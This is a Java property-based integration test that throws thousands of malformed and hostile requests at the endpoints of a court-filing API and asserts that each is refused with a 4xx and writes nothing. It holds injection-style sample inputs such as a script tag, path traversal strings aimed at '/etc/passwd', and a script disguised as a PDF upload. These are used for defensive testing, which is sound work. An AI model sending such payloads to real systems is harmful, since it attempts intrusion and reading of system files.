package ir.daftar.api.it;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.ObjectMapper;
import ir.daftar.api.DaftarApplication;
import java.io.ByteArrayOutputStream;
import java.net.URI;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.Base64;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.UUID;
import net.jqwik.api.Arbitraries;
import net.jqwik.api.Arbitrary;
import net.jqwik.api.Combinators;
import net.jqwik.api.Example;
import net.jqwik.api.ForAll;
import net.jqwik.api.Property;
import net.jqwik.api.Provide;
import net.jqwik.api.ShrinkingMode;
import net.jqwik.api.lifecycle.AfterContainer;
import net.jqwik.api.lifecycle.BeforeContainer;
import org.springframework.boot.builder.SpringApplicationBuilder;
import org.springframework.boot.web.context.WebServerApplicationContext;
import org.springframework.context.ConfigurableApplicationContext;
import org.springframework.jdbc.core.JdbcTemplate;

/**
 * A12: hostile input. Thousands of generated hostile requests (oversized, malformed JSON, wrong
 * types, huge strings, invalid UTF-8 and Unicode, SQL and script injection in every field, path
 * traversal in document titles and ids, deep nesting, wrong media types) are thrown at every
 * endpoint that takes a body, as users allowed to call it, against a filing that exists. Each must
 * get a 4xx, never a 5xx, and the event store must not grow by a single event.
 *
 * <p>The whole application runs here over real HTTP on an embedded database of its own (so that
 * nothing else writes to the store meanwhile), with a 64 KB body limit so that oversized bodies
 * stay cheap to generate.
 */
class HostileInputIT {

    private static final ObjectMapper JSON = new ObjectMapper();
    private static final String PASSWORD = "fuzz-password";

    static ConfigurableApplicationContext app;
    static HttpClient http;
    static String base;
    static JdbcTemplate jdbc;
    static String filingId;
    /** A paper complaint lodged with the prosecutor's office: a case its authority has, for reports and notices. */
    static String caseId;
    static long events;

    @BeforeContainer
    static void start() throws Exception {
        DaftarApplication.disableUpdateChecker();
        Map<String, Object> props = new LinkedHashMap<>();
        props.put("spring.datasource.url", "jdbc:h2:mem:hostile-" + UUID.randomUUID()
                + ";MODE=PostgreSQL;DATABASE_TO_LOWER=TRUE;DEFAULT_NULL_ORDERING=HIGH;DB_CLOSE_DELAY=-1");
        props.put("server.port", "0");
        props.put("daftar.demo.enabled", "true");
        props.put("daftar.http.max-body-size", "64KB");
        props.put("daftar.integrity.key-file", "target/hostile-input-signing-key.properties");
        props.put("daftar.status.rate-limit.capacity", "100000");
        props.put("logging.level.root", "WARN");
        props.put("daftar.documents.directory", "target/hostile-input-documents-" + UUID.randomUUID());
        String[][] accounts = {
                {"fuzz-clerk", "OFFICE_CLERK", "0045678911", "OFF-1001"},
                {"fuzz-applicant", "APPLICANT", "0089123451", null},
                {"fuzz-gd", "GD_OFFICER", "0123456789", null},
                {"fuzz-court", "COURT_STAFF", "COURT-TEH-CIV-12-99", null},
                {"fuzz-board", "BOARD_MEMBER", "J-FUZZ-1", null},
                {"fuzz-kanoon", "KANOON_BOARD_MEMBER", "0012345679", null}};
        for (int i = 0; i < accounts.length; i++) {
            String p = "daftar.security.accounts[" + i + "].";
            props.put(p + "username", accounts[i][0]);
            props.put(p + "password", "{noop}" + PASSWORD);
            props.put(p + "role", accounts[i][1]);
            props.put(p + "actor-id", accounts[i][2]);
            if (accounts[i][3] != null) {
                props.put(p + "office-id", accounts[i][3]);
            }
            if (accounts[i][1].equals("COURT_STAFF")) {
                props.put(p + "authority-id", "TEH-CIV-12");
            }
        }
        // as arguments: they must win over application.yml (builder properties would only be defaults)
        app = new SpringApplicationBuilder(DaftarApplication.class)
                .run(props.entrySet().stream().map(p -> "--" + p.getKey() + "=" + p.getValue()).toArray(String[]::new));
        base = "http://127.0.0.1:" + ((WebServerApplicationContext) app).getWebServer().getPort();
        jdbc = app.getBean(JdbcTemplate.class);
        http = HttpClient.newBuilder().connectTimeout(Duration.ofSeconds(5)).build();
        HttpResponse<String> started = send(new Attack("start", "POST", "/api/v1/filings", "fuzz-clerk",
                JSON.writeValueAsBytes(ApiClient.officePetition("300000000")), "application/json"));
        assertThat(started.statusCode()).as(started.body()).isEqualTo(201);
        filingId = JSON.readTree(started.body()).path("filingId").asText();
        HttpResponse<String> lodged = send(new Attack("lodge", "POST", "/api/v1/paper-complaints", "prosecutor",
                JSON.writeValueAsBytes(paperComplaint()), "application/json"));
        assertThat(lodged.statusCode()).as(lodged.body()).isEqualTo(201);
        caseId = JSON.readTree(lodged.body()).path("filingId").asText();
        events = eventCount();
    }

    @AfterContainer
    static void stop() {
        System.out.printf("HostileInputIT: %d generated requests over %d endpoints: %s%n", SENT.get(), BY_ENDPOINT.size(), BY_ENDPOINT);
        if (app != null) {
            app.close();
        }
    }

    /** Requests sent by the property below; reported at the end, and checked to reach the 10,000. */
    static final java.util.concurrent.atomic.AtomicInteger SENT = new java.util.concurrent.atomic.AtomicInteger();
    static final Map<String, Integer> BY_ENDPOINT = new java.util.concurrent.ConcurrentSkipListMap<>();

    @Property(tries = 10_000, shrinking = ShrinkingMode.OFF, seed = "20180812")
    void a_hostile_request_gets_a_4xx_problem_with_a_code_and_writes_nothing(@ForAll("attacks") Attack attack) throws Exception {
        HttpResponse<String> response = send(attack);
        SENT.incrementAndGet();
        BY_ENDPOINT.merge(attack.method() + " " + attack.path().replace(filingId, "{filing}").replace(caseId, "{case}"), 1, Integer::sum);
        assertThat(response.statusCode()).as("%s -> %s %s", attack, response.statusCode(), response.body()).isBetween(400, 499);
        assertThat(response.statusCode()).as("%s: a client error, not an authentication one", attack).isNotIn(401);
        assertThat(response.headers().firstValue("Content-Type").orElse(""))
                .as("%s -> %s %s", attack, response.statusCode(), response.body()).startsWith("application/problem+json");
        assertThat(JSON.readTree(response.body()).path("code").asText())
                .as("%s -> %s %s", attack, response.statusCode(), response.body()).isNotBlank();
        assertThat(eventCount()).as("%s wrote to the event store", attack).isEqualTo(events);
    }

    // --- issue 12: each defect found by hand, named ----------------------------------------------------------

    @Example
    void minus_five_rials_is_refused_not_stored_as_five() throws Exception {
        for (String amount : List.of("-5", "--5", "5-", "−5")) {
            Map<String, Object> body = new LinkedHashMap<>(ApiClient.officePetition("300000000"));
            body.put("claimValueRials", amount);
            HttpResponse<String> r = post("/api/v1/filings", JSON.writeValueAsString(body));
            assertThat(r.statusCode()).as(amount + " " + r.body()).isEqualTo(400);
            assertThat(JSON.readTree(r.body()).path("errors").get(0).path("field").asText()).isEqualTo("claimValueRials");
            assertThat(JSON.readTree(r.body()).path("errors").get(0).path("code").asText()).isEqualTo("NEGATIVE");
        }
        assertThat(eventCount()).isEqualTo(events);
    }

    @Example
    void duplicate_keys_and_trailing_data_are_refused() throws Exception {
        String valid = JSON.writeValueAsString(ApiClient.officePetition("300000000"));
        String duplicate = valid.replaceFirst("\\{", "{\"subject\":\"first\",");
        for (String body : List.of(duplicate, valid + " {\"x\":1}", valid + "garbage")) {
            HttpResponse<String> r = post("/api/v1/filings", body);
            assertThat(r.statusCode()).as(body + " -> " + r.body()).isEqualTo(400);
            assertThat(r.headers().firstValue("Content-Type").orElse("")).startsWith("application/problem+json");
        }
        assertThat(eventCount()).isEqualTo(events);
    }

    @Example
    void a_fraction_of_a_page_is_refused_not_rounded() throws Exception {
        HttpResponse<String> r = post("/api/v1/filings/" + filingId + "/documents",
                "{\"title\":\"دادخواست\",\"pageCount\":1.5,\"contentBase64\":\"" + Base64.getEncoder()
                        .encodeToString("x".getBytes(StandardCharsets.UTF_8)) + "\"}");
        assertThat(r.statusCode()).as(r.body()).isEqualTo(400);
        assertThat(JSON.readTree(r.body()).path("errors").get(0).path("field").asText()).isEqualTo("pageCount");
        assertThat(eventCount()).isEqualTo(events);
    }

    @Example
    void markup_is_named_as_not_plain_text_but_a_less_than_sign_is_ordinary_persian() throws Exception {
        Map<String, Object> tag = new LinkedHashMap<>(ApiClient.officePetition("300000000"));
        tag.put("subject", "مطالبه <script>alert(1)</script>");
        HttpResponse<String> refused = post("/api/v1/filings", JSON.writeValueAsString(tag));
        assertThat(refused.statusCode()).isEqualTo(400);
        assertThat(JSON.readTree(refused.body()).path("errors").get(0).path("code").asText()).isEqualTo("NOT_PLAIN_TEXT");
        assertThat(JSON.readTree(refused.body()).path("errors").get(0).path("field").asText()).isEqualTo("subject");
        assertThat(eventCount()).isEqualTo(events);

        Map<String, Object> sign = new LinkedHashMap<>(ApiClient.officePetition("300000000"));
        sign.put("subject", "مطالبه وجه، مهلت < ۱۰ روز");
        HttpResponse<String> accepted = post("/api/v1/filings", JSON.writeValueAsString(sign));
        assertThat(accepted.statusCode()).as(accepted.body()).isEqualTo(201);
        events = eventCount(); // the property above compares against what this wrote
    }

    @Example
    void an_office_or_reporting_body_with_a_taken_id_is_a_409_not_a_500() throws Exception {
        HttpResponse<String> office = post("admin", "/api/v1/offices", "{\"officeId\":\"OFF-1001\",\"name\":\"x\",\"origin\":\"NEW\"}");
        assertThat(office.statusCode()).as(office.body()).isEqualTo(409);
        assertThat(JSON.readTree(office.body()).path("code").asText()).isEqualTo("ID_ALREADY_USED");
        HttpResponse<String> body = post("fuzz-gd", "/api/v1/reporting-bodies", "{\"reportingBodyId\":\"OFF-1001\","
                + "\"kind\":\"JUDICIAL_OFFICERS_UNIT\",\"name\":\"x\",\"reportKinds\":[\"RESULT_OF_ACTION\"],\"users\":[]}");
        assertThat(body.statusCode()).as(body.body()).isEqualTo(409);
        assertThat(JSON.readTree(body.body()).path("code").asText()).isEqualTo("ID_ALREADY_USED");
        HttpResponse<String> user = post("fuzz-gd", "/api/v1/reporting-bodies/OFF-1001/users", "{\"userId\":\"u1\"}");
        assertThat(user.statusCode()).as(user.body()).isEqualTo(404);
        assertThat(eventCount()).isEqualTo(events);
    }

    @Example
    void a_null_user_of_a_reporting_body_is_a_400_naming_it() throws Exception {
        HttpResponse<String> r = post("fuzz-gd", "/api/v1/reporting-bodies", "{\"reportingBodyId\":\"RB-NULL\","
                + "\"kind\":\"JUDICIAL_OFFICERS_UNIT\",\"name\":\"x\",\"reportKinds\":[\"RESULT_OF_ACTION\"],\"users\":[null]}");
        assertThat(r.statusCode()).as(r.body()).isEqualTo(400);
        assertThat(JSON.readTree(r.body()).path("errors").get(0).path("field").asText()).isEqualTo("users[0]");
        assertThat(eventCount()).isEqualTo(events);
    }

    @Example
    void a_case_registration_date_that_is_not_a_date_is_a_400_naming_it() throws Exception {
        for (String date : List.of("\"2026-13-45\"", "\"1405/13/01\"", "123", "\"1900-01-01\"")) {
            HttpResponse<String> r = send(new Attack("named", "POST", "/api/v1/filings/" + filingId + "/case-registration",
                    "fuzz-court", ("{\"caseNumber\":\"1405-1\",\"branch\":\"12\",\"registeredOn\":" + date + "}")
                            .getBytes(StandardCharsets.UTF_8), "application/json"));
            assertThat(r.statusCode()).as(date + " " + r.body()).isEqualTo(400);
            assertThat(JSON.readTree(r.body()).path("errors").get(0).path("field").asText()).isEqualTo("registeredOn");
        }
        assertThat(eventCount()).isEqualTo(events);
    }

    @Example
    void a_number_where_a_name_is_asked_is_refused_not_turned_into_text() throws Exception {
        Map<String, Object> body = deepCopy(ApiClient.officePetition("300000000"));
        set(body, "applicant.name", 123);
        HttpResponse<String> r = post("/api/v1/filings", JSON.writeValueAsString(body));
        assertThat(r.statusCode()).as(r.body()).isEqualTo(400);
        assertThat(JSON.readTree(r.body()).path("errors").get(0).path("field").asText()).isEqualTo("applicant.name");
        assertThat(JSON.readTree(r.body()).path("errors").get(0).path("code").asText()).isEqualTo("WRONG_TYPE");
        assertThat(eventCount()).isEqualTo(events);
    }

    @Example
    void an_amount_may_be_a_json_number_but_never_a_negative_one() throws Exception {
        Map<String, Object> body = deepCopy(ApiClient.officePetition("300000000"));
        body.put("claimValueRials", -5);
        HttpResponse<String> r = post("/api/v1/filings", JSON.writeValueAsString(body));
        assertThat(r.statusCode()).as(r.body()).isEqualTo(400);
        assertThat(JSON.readTree(r.body()).path("errors").get(0).path("code").asText()).isEqualTo("NEGATIVE");
        assertThat(eventCount()).isEqualTo(events);
    }

    @Example
    void a_ten_megabyte_junk_field_is_refused_by_name_not_carried() throws Exception {
        // the body limit is 64 KB in this test (16 MB in production): the junk is as large as the limit allows
        Map<String, Object> body = deepCopy(ApiClient.officePetition("300000000"));
        body.put("junk", "x".repeat(60 * 1024));
        HttpResponse<String> r = post("/api/v1/filings", JSON.writeValueAsString(body));
        assertThat(r.statusCode()).as(r.body()).isEqualTo(400);
        assertThat(JSON.readTree(r.body()).path("errors").get(0).path("field").asText()).isEqualTo("junk");
        assertThat(JSON.readTree(r.body()).path("errors").get(0).path("code").asText()).isEqualTo("UNKNOWN_FIELD");
        assertThat(eventCount()).isEqualTo(events);
    }

    @Example
    void dates_of_1900_for_lodgedAt_and_occurredAt_are_refused() throws Exception {
        Map<String, Object> complaint = deepCopy(paperComplaint());
        complaint.put("lodgedAt", "1900-01-01T08:00:00Z");
        HttpResponse<String> lodged = post("prosecutor", "/api/v1/paper-complaints", JSON.writeValueAsString(complaint));
        assertThat(lodged.statusCode()).as(lodged.body()).isEqualTo(400);
        assertThat(JSON.readTree(lodged.body()).path("errors").get(0).path("field").asText()).isEqualTo("lodgedAt");
        assertThat(JSON.readTree(lodged.body()).path("errors").get(0).path("code").asText()).isEqualTo("DATE_OUT_OF_RANGE");
        HttpResponse<String> report = post("forensic", "/api/v1/reports", JSON.writeValueAsString(Map.of("filingId", caseId,
                "kind", "FORENSIC_REPORT", "title", "گزارش", "occurredAt", "1900-01-01T08:00:00Z", "documents",
                List.of(Map.of("title", "گزارش", "pageCount", 1, "contentBase64", "cmVwb3J0")))));
        assertThat(report.statusCode()).as(report.body()).isEqualTo(400);
        assertThat(JSON.readTree(report.body()).path("errors").get(0).path("field").asText()).isEqualTo("occurredAt");
        assertThat(eventCount()).isEqualTo(events);
    }

    @Example
    void a_report_on_a_draft_portal_filing_is_refused_as_an_unknown_case() throws Exception {
        HttpResponse<String> draft = post("fuzz-applicant", "/api/v1/filings", JSON.writeValueAsString(ApiClient.portalComplaint()));
        assertThat(draft.statusCode()).as(draft.body()).isEqualTo(201);
        events = eventCount();
        HttpResponse<String> report = post("forensic", "/api/v1/reports", JSON.writeValueAsString(Map.of(
                "filingId", JSON.readTree(draft.body()).path("filingId").asText(), "kind", "FORENSIC_REPORT", "title", "گزارش",
                "documents", List.of(Map.of("title", "گزارش", "pageCount", 1, "contentBase64", "cmVwb3J0")))));
        assertThat(report.statusCode()).as(report.body()).isEqualTo(422);
        assertThat(JSON.readTree(report.body()).path("code").asText()).isEqualTo("A9_CASE_UNKNOWN");
        assertThat(eventCount()).isEqualTo(events);
    }

    @Example
    void a_clerk_of_another_office_is_refused_for_that_not_told_the_filing_is_verified() throws Exception {
        HttpResponse<String> started = post("/api/v1/filings", JSON.writeValueAsString(ApiClient.officePetition("300000000")));
        String other = JSON.readTree(started.body()).path("filingId").asText();
        String verify = "{\"method\":\"NATIONAL_SMART_CARD\"}";
        assertThat(post("/api/v1/filings/" + other + "/identity-verification", verify).statusCode()).isEqualTo(202);
        events = eventCount();
        HttpResponse<String> r = post("clerk1002", "/api/v1/filings/" + other + "/identity-verification", verify);
        assertThat(r.statusCode()).as(r.body()).isEqualTo(422);
        assertThat(JSON.readTree(r.body()).path("code").asText()).isEqualTo("A6_OTHER_OFFICE");
        assertThat(eventCount()).isEqualTo(events);
    }

    // --- issue 16: the multipart upload of a document's file ------------------------------------------------

    /** A multipart/form-data body by hand: each part a (name, filename or null, bytes). */
    static byte[] multipart(String boundary, List<Object[]> parts) {
        java.io.ByteArrayOutputStream out = new java.io.ByteArrayOutputStream();
        for (Object[] part : parts) {
            String head = "--" + boundary + "\r\nContent-Disposition: form-data; name=\"" + part[0] + "\""
                    + (part[1] == null ? "" : "; filename=\"" + part[1] + "\"\r\nContent-Type: application/pdf") + "\r\n\r\n";
            out.writeBytes(head.getBytes(StandardCharsets.UTF_8));
            out.writeBytes(part[2] instanceof byte[] b ? b : part[2].toString().getBytes(StandardCharsets.UTF_8));
            out.writeBytes("\r\n".getBytes(StandardCharsets.UTF_8));
        }
        out.writeBytes(("--" + boundary + "--\r\n").getBytes(StandardCharsets.UTF_8));
        return out.toByteArray();
    }

    @Example
    void a_hostile_document_upload_gets_a_4xx_problem_naming_the_field_and_keeps_nothing() throws Exception {
        String path = "/api/v1/filings/" + filingId + "/documents";
        String type = "multipart/form-data; boundary=b0undary";
        byte[] pdfHeaderOnly = "%PDF-1.7\n%%EOF\n".getBytes(StandardCharsets.US_ASCII);
        byte[] script = "<script>alert(1)</script>".getBytes(StandardCharsets.UTF_8);
        Map<String, Object[]> cases = new LinkedHashMap<>();
        // what it is, and the field the answer must name
        cases.put("a script named .pdf", new Object[] {"file", List.of(new Object[] {"file", "a.pdf", script},
                new Object[] {"title", null, "دادخواست"}, new Object[] {"pageCount", null, "1"})});
        cases.put("a PDF header and nothing else", new Object[] {"file", List.of(new Object[] {"file", "a.pdf", pdfHeaderOnly},
                new Object[] {"title", null, "دادخواست"}, new Object[] {"pageCount", null, "1"})});
        cases.put("a path as title", new Object[] {"title", List.of(new Object[] {"file", "a.pdf", pdfHeaderOnly},
                new Object[] {"title", null, "../../etc/passwd"}, new Object[] {"pageCount", null, "1"})});
        cases.put("a fraction of a page", new Object[] {"pageCount", List.of(new Object[] {"file", "a.pdf", pdfHeaderOnly},
                new Object[] {"title", null, "دادخواست"}, new Object[] {"pageCount", null, "1.5"})});
        cases.put("a negative page count", new Object[] {"pageCount", List.of(new Object[] {"file", "a.pdf", pdfHeaderOnly},
                new Object[] {"title", null, "دادخواست"}, new Object[] {"pageCount", null, "-3"})});
        cases.put("no file", new Object[] {"file", List.of(new Object[] {"title", null, "دادخواست"},
                new Object[] {"pageCount", null, "1"})});
        cases.put("an empty file", new Object[] {"file", List.of(new Object[] {"file", "a.pdf", new byte[0]},
                new Object[] {"title", null, "دادخواست"}, new Object[] {"pageCount", null, "1"})});
        cases.put("a document id with a path in it", new Object[] {"documentId", List.of(
                new Object[] {"file", "a.pdf", pdfHeaderOnly}, new Object[] {"title", null, "دادخواست"},
                new Object[] {"pageCount", null, "1"}, new Object[] {"documentId", null, "../x"})});
        for (Map.Entry<String, Object[]> c : cases.entrySet()) {
            @SuppressWarnings("unchecked")
            List<Object[]> parts = (List<Object[]>) c.getValue()[1];
            HttpResponse<String> r = send(new Attack(c.getKey(), "POST", path, "fuzz-clerk", multipart("b0undary", parts), type));
            assertThat(r.statusCode()).as(c.getKey() + " -> " + r.body()).isBetween(400, 499);
            assertThat(r.headers().firstValue("Content-Type").orElse("")).as(c.getKey()).startsWith("application/problem+json");
            assertThat(JSON.readTree(r.body()).path("errors").get(0).path("field").asText()).as(c.getKey() + " -> " + r.body())
                    .isEqualTo(c.getValue()[0]);
        }
        // a body that is not multipart at all, and one cut short
        for (byte[] body : List.of("{}".getBytes(StandardCharsets.UTF_8),
                Arrays.copyOf(multipart("b0undary", List.<Object[]>of(new Object[] {"file", "a.pdf", pdfHeaderOnly})), 40))) {
            HttpResponse<String> r = send(new Attack("broken multipart", "POST", path, "fuzz-clerk", body, type));
            assertThat(r.statusCode()).as(r.body()).isBetween(400, 499);
            assertThat(JSON.readTree(r.body()).path("code").asText()).isNotBlank();
        }
        assertThat(eventCount()).isEqualTo(events);
        ir.daftar.api.document.DocumentStore store = app.getBean(ir.daftar.api.document.DocumentStore.class);
        assertThat(store.find(sha256(pdfHeaderOnly))).isEmpty();
        assertThat(store.find(sha256(script))).isEmpty();
    }

    static String sha256(byte[] bytes) throws Exception {
        return java.util.HexFormat.of().formatHex(java.security.MessageDigest.getInstance("SHA-256").digest(bytes));
    }

    private static HttpResponse<String> post(String path, String body) throws Exception {
        return post("fuzz-clerk", path, body);
    }

    private static HttpResponse<String> post(String user, String path, String body) throws Exception {
        return send(new Attack("named", "POST", path, user, body.getBytes(StandardCharsets.UTF_8), "application/json"));
    }

    // --- the attacks ------------------------------------------------------------------------------------

    /** One request: what it tries, and the bytes it sends. */
    record Attack(String what, String method, String path, String user, byte[] body, String contentType) {
        @Override
        public String toString() {
            String shown = new String(body, StandardCharsets.UTF_8);
            return what + " " + method + " " + path + " as " + user + " [" + contentType + ", " + body.length + " bytes: "
                    + (shown.length() > 200 ? shown.substring(0, 200) + "..." : shown) + "]";
        }
    }

    /**
     * What a field holds, hence what it must refuse. REF: a reference that may hold slashes (case and paper numbers);
     * BASE64: a document's content, where "/etc/shadow" is eleven valid base64 characters, not an attack.
     */
    enum Kind { TEXT, TITLE, CODE, REF, BASE64, ENUM, NUMBER, AMOUNT, DATE, BOOLEAN }

    record Field(String path, Kind kind) {
    }

    /** An endpoint with a valid body, the user who may call it, and the fields of the body. */
    record Endpoint(String method, String path, String user, Map<String, Object> valid, List<Field> fields) {
    }

    static List<Endpoint> endpoints() {
        String f = "/api/v1/filings/" + filingId;
        String doc = Base64.getEncoder().encodeToString("scan".getBytes(StandardCharsets.UTF_8));
        Map<String, Object> document = Map.of("title", "گزارش", "pageCount", 1, "contentBase64", doc);
        String recent = java.time.Instant.now().minus(Duration.ofDays(1)).toString();
        String inspections = "/api/v1/inspections/no-such-inspection";
        String notices = "/api/v1/notices/no-such-notice";
        return List.of(
                // the filing, office route (A5-A7)
                new Endpoint("POST", "/api/v1/filings", "fuzz-clerk", ApiClient.officePetition("300000000"), List.of(
                        new Field("route", Kind.ENUM), new Field("kind", Kind.ENUM), new Field("claimNature", Kind.ENUM),
                        new Field("claimValueRials", Kind.AMOUNT), new Field("applicant.type", Kind.ENUM),
                        new Field("applicant.identifier", Kind.CODE), new Field("applicant.name", Kind.TEXT),
                        new Field("competentAuthorityId", Kind.CODE), new Field("subject", Kind.TEXT),
                        new Field("defendants.0.name", Kind.TEXT), new Field("defendants.0.type", Kind.ENUM))),
                new Endpoint("POST", "/api/v1/filings", "fuzz-applicant", ApiClient.portalComplaint(), List.of(
                        new Field("route", Kind.ENUM), new Field("kind", Kind.ENUM), new Field("applicant.identifier", Kind.CODE),
                        new Field("applicant.name", Kind.TEXT), new Field("competentAuthorityId", Kind.CODE),
                        new Field("subject", Kind.TEXT))),
                new Endpoint("POST", f + "/identity-verification", "fuzz-clerk", Map.of("method", "NATIONAL_SMART_CARD"),
                        List.of(new Field("method", Kind.ENUM))),
                new Endpoint("POST", f + "/documents", "fuzz-clerk", Map.of("title", "دادخواست", "pageCount", 2,
                        "contentBase64", doc),
                        List.of(new Field("title", Kind.TITLE), new Field("pageCount", Kind.NUMBER),
                                new Field("contentBase64", Kind.BASE64), new Field("documentId", Kind.CODE),
                                new Field("sha256", Kind.CODE))),
                new Endpoint("POST", f + "/court-fee/payment", "fuzz-clerk", Map.of("paymentReference", "PAY-1",
                        "amountRials", "1000", "receiptNumber", "R-1"),
                        List.of(new Field("paymentReference", Kind.CODE), new Field("amountRials", Kind.AMOUNT),
                                new Field("receiptNumber", Kind.CODE))),
                new Endpoint("POST", f + "/documents/doc-1/conformity", "fuzz-clerk", Map.of("verdict", "REJECTED",
                        "reason", "ناخوانا"), List.of(new Field("verdict", Kind.ENUM), new Field("reason", Kind.TEXT))),
                new Endpoint("POST", f + "/contact-details", "fuzz-clerk", Map.of("mobile", "09121234567",
                        "electronicAddress", "zahra@example.org"),
                        List.of(new Field("mobile", Kind.CODE), new Field("electronicAddress", Kind.CODE))),
                new Endpoint("PUT", f + "/contact-details", "fuzz-applicant", Map.of("mobile", "09121234567",
                        "electronicAddress", "zahra@example.org"),
                        List.of(new Field("mobile", Kind.CODE), new Field("electronicAddress", Kind.CODE))),
                new Endpoint("POST", f + "/notification-undertaking", "fuzz-clerk",
                        Map.of("signedFormSha256", ApiClient.SIGNED_FORM), List.of(new Field("signedFormSha256", Kind.CODE))),
                // the court side (A11, A13)
                new Endpoint("POST", f + "/case-registration", "fuzz-court", Map.of("caseNumber", "1405-12/77", "branch", "شعبه ۱۲",
                        "registeredOn", "1405/09/11"), List.of(new Field("caseNumber", Kind.REF), new Field("branch", Kind.TEXT),
                        new Field("registeredOn", Kind.DATE))),
                new Endpoint("POST", f + "/return", "fuzz-court", Map.of("reason", "مدارک ناقص است"),
                        List.of(new Field("reason", Kind.TEXT))),
                new Endpoint("POST", "/api/v1/paper-complaints", "prosecutor", paperComplaint(), List.of(
                        new Field("applicant.identifier", Kind.CODE), new Field("applicant.name", Kind.TEXT),
                        new Field("applicant.type", Kind.ENUM), new Field("subject", Kind.TEXT), new Field("lodgedAt", Kind.DATE),
                        new Field("paperReference", Kind.REF), new Field("documents.0.title", Kind.TITLE),
                        new Field("documents.0.pageCount", Kind.NUMBER), new Field("mobile", Kind.CODE),
                        new Field("electronicAddress", Kind.CODE))),
                // notices (A7, A8): issued on the case; the rest on a notice that does not exist
                new Endpoint("POST", "/api/v1/notices", "prosecutor", Map.of("filingId", caseId, "kind", "SUMMONS",
                        "recipient", Map.of("role", "APPLICANT", "nationalCode", "0089123451"), "text", "احضار، مهلت < ۱۰ روز"),
                        List.of(new Field("filingId", Kind.CODE), new Field("kind", Kind.ENUM), new Field("recipient.role", Kind.ENUM),
                                new Field("recipient.nationalCode", Kind.CODE), new Field("text", Kind.TEXT))),
                new Endpoint("POST", notices + "/view", "fuzz-applicant", Map.of("channel", "PORTAL"),
                        List.of(new Field("channel", Kind.ENUM))),
                new Endpoint("POST", notices + "/lack-of-access", "fuzz-applicant", Map.of("reason", "بستری بودم"),
                        List.of(new Field("reason", Kind.TEXT))),
                new Endpoint("POST", notices + "/lack-of-access/decision", "prosecutor", Map.of("upheld", false,
                        "reason", "دلیل کافی نیست"), List.of(new Field("upheld", Kind.BOOLEAN), new Field("reason", Kind.TEXT),
                        new Field("serviceAt", Kind.DATE))),
                new Endpoint("POST", notices + "/withdrawal", "prosecutor", Map.of("reason", "اشتباه در نشانی"),
                        List.of(new Field("reason", Kind.TEXT))),
                // reporting bodies, reports and paper files (A9, A10)
                new Endpoint("POST", "/api/v1/reporting-bodies", "fuzz-gd", Map.of("reportingBodyId", "RB-FUZZ",
                        "kind", "JUDICIAL_OFFICERS_UNIT", "name", "کلانتری آزمون", "reportKinds", List.of("RESULT_OF_ACTION"),
                        "users", List.of("RB-FUZZ-U1")), List.of(new Field("reportingBodyId", Kind.CODE), new Field("kind", Kind.ENUM),
                        new Field("name", Kind.TEXT), new Field("reportKinds.0", Kind.ENUM), new Field("users.0", Kind.CODE))),
                new Endpoint("POST", "/api/v1/reporting-bodies/POLICE-TEH-12/users", "fuzz-gd", Map.of("userId", "POLICE-TEH-12-0999"),
                        List.of(new Field("userId", Kind.CODE))),
                new Endpoint("POST", "/api/v1/reports", "forensic", Map.of("filingId", caseId, "kind", "FORENSIC_REPORT",
                        "title", "گزارش معاینه", "occurredAt", recent, "documents", List.of(document)),
                        List.of(new Field("filingId", Kind.CODE), new Field("kind", Kind.ENUM), new Field("title", Kind.TEXT),
                                new Field("occurredAt", Kind.DATE), new Field("documents.0.title", Kind.TITLE),
                                new Field("documents.0.pageCount", Kind.NUMBER), new Field("documents.0.contentBase64", Kind.BASE64))),
                new Endpoint("POST", "/api/v1/paper-files", "police", Map.of("filingId", caseId, "paperReference", "K12/1405/330",
                        "carriedBy", "ستوان علی رضایی", "acts", List.of(Map.of("description", "دستگیری متهم", "occurredAt", recent))),
                        List.of(new Field("filingId", Kind.CODE), new Field("paperReference", Kind.REF),
                                new Field("carriedBy", Kind.TEXT), new Field("acts.0.description", Kind.TEXT),
                                new Field("acts.0.occurredAt", Kind.DATE))),
                // offices (A15)
                new Endpoint("POST", "/api/v1/offices", "admin", Map.of("officeId", "OFF-9001", "name", "دفتر آزمون",
                        "origin", "NOTARY_OFFICE", "province", "تهران", "city", "تهران"),
                        List.of(new Field("officeId", Kind.CODE), new Field("name", Kind.TEXT), new Field("origin", Kind.ENUM),
                                new Field("province", Kind.TEXT), new Field("city", Kind.TEXT))),
                new Endpoint("POST", "/api/v1/offices/OFF-1001/staff", "fuzz-gd",
                        StaffEvidence.hire("0098765434", "کارمند آزمون", "CLERK"),
                        List.of(new Field("nationalCode", Kind.CODE), new Field("name", Kind.TEXT),
                                new Field("role", Kind.ENUM), new Field("fullTime", Kind.BOOLEAN),
                                // staff eligibility (A16-A21; ADR 0910): the evidence, nested
                                new Field("eligibility.general.noCriminalRecord", Kind.TEXT),
                                new Field("eligibility.general.militaryService", Kind.ENUM),
                                new Field("eligibility.qualifications.degree", Kind.ENUM),
                                new Field("eligibility.qualifications.birthDate", Kind.TEXT),
                                new Field("eligibility.qualifications.computerSkillsApproval", Kind.TEXT),
                                new Field("eligibility.prohibitions.merchant", Kind.BOOLEAN))),
                new Endpoint("POST", "/api/v1/offices/OFF-NONE/minimum-staffing", "fuzz-gd",
                        Map.of("perRole", Map.of("CLERK", 2)), List.of(new Field("perRole.CLERK", Kind.NUMBER))),
                // office licences (A22(b), A24; ADR 0900): on an office that does not exist
                new Endpoint("POST", "/api/v1/offices/OFF-NONE/licence/decisions", "council", Map.of("decisionId", "LIC-FUZZ",
                        "kind", "SUSPEND", "until", "2027-01-01T00:00:00Z", "councilSession", "جلسه ۱۲",
                        "reasons", "تخلف مکرر"), List.of(new Field("decisionId", Kind.CODE), new Field("kind", Kind.ENUM),
                        new Field("until", Kind.DATE), new Field("councilSession", Kind.TEXT), new Field("reasons", Kind.TEXT),
                        new Field("address", Kind.TEXT), new Field("province", Kind.TEXT))),
                new Endpoint("POST", "/api/v1/offices/OFF-NONE/licence/decisions/LIC-FUZZ/opinion", "gd",
                        Map.of("agrees", false, "reasons", "مدارک ناقص است"),
                        List.of(new Field("agrees", Kind.BOOLEAN), new Field("reasons", Kind.TEXT))),
                new Endpoint("POST", "/api/v1/offices/OFF-NONE/licence/decisions/LIC-FUZZ/decision", "centerhead",
